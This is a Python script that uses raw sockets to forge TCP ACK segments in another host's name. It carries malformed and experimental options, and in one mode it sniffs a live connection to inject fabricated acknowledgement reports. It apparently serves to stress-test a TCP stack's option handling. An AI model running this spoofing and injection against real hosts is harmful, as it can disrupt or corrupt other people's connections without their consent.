"""Sends forged special ACKs and malformed options in the name of a host.

    forger.py blind ADDRESS PORT PEER PEERS-PORT PACKETS    one who sees no packet of the connection
    forger.py lying ADDRESS PEER PEERS-PORT                 one who sees all: each ACK is followed by reports of what is
                                                            outstanding, until the connection ends
"""

import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def acknowledgement(source, destination, ports, seq, ack, options, flags=0x10):
    options += b"\1" * (-len(options) % 4)
    length = 20 + len(options)
    head = struct.pack("!HHIIBBHHH", *ports, seq, ack, length << 2, flags, 500, 0, 0) + options
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!HH", 6, length)
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def timestamps(value, echo):
    return b"\1\1\x08\x0a" + struct.pack("!II", value, echo)


def any_option(draw):
    """Reports of any bytes, and options that are malformed in each way."""
    number = draw.randbytes(4)
    return draw.choice(
        [
            b"\x0f\x06" + number,
            b"\x10\x0a" + number + draw.randbytes(4),
            b"\xfd\x0e\x48\x57" + draw.randbytes(4) + number + b"\0\0",
            b"\xfd\x0a\x48\x57" + draw.randbytes(6),
            b"\xfd\x1c\x48\x57" + draw.randbytes(24),
            b"\x0e\x04" + draw.randbytes(2),
            b"\x0f\x00" + number,
            b"\x10\x01" + number,
            b"\x10\x28" + number,
            b"\xfd\xff\x48\x57" + number,
            b"\xfd\x04\x48\x57" * 3,
            draw.randbytes(draw.randrange(28)),
        ]
    )


def blind(source, port, destination, other_port, packets):
    draw = random.Random(7)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    for _ in range(int(packets)):
        stamps = timestamps(draw.getrandbits(32), draw.getrandbits(32)) if draw.random() < 0.8 else b""
        segment = acknowledgement(
            source,
            destination,
            (int(port), int(other_port)),
            draw.getrandbits(32),
            draw.getrandbits(32),
            (stamps + any_option(draw))[:40],
        )
        # With data too: such a packet may claim to be damaged.
        if draw.random() < 0.3:
            segment += draw.randbytes(draw.randrange(1400))
        raw.sendto(segment, (destination, 0))


def lying(source, destination, other_port):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    print("ready", flush=True)
    while True:
        packet, (_, protocol, direction, _, _) = wire.recvfrom(2048)
        if protocol != 0x0800 or direction != socket.PACKET_OUTGOING or packet[9] != 6:
            continue
        tcp = packet[20:]
        ports = struct.unpack("!HH", tcp[:4])
        seq, ack = struct.unpack("!II", tcp[4:12])
        header = tcp[12] >> 2
        if ports[1] != int(other_port) or tcp[13] & 2:
            continue
        if tcp[13] & 5:
            return
        stamps = tcp[20:32]
        # What the forger itself has sent comes along here, too.
        if b"\x10\x12" in tcp[32:header]:
            continue
        for first in range(0, 40, 4):
            numbers = struct.pack("!4I", *((ack + 1448 * (first + place)) & 0xFFFFFFFF for place in range(4)))
            segment = acknowledgement(source, destination, ports, seq, ack, stamps + b"\x10\x12" + numbers)
            raw.sendto(segment, (destination, 0))


{"blind": blind, "lying": lying}[sys.argv[1]](*sys.argv[2:])
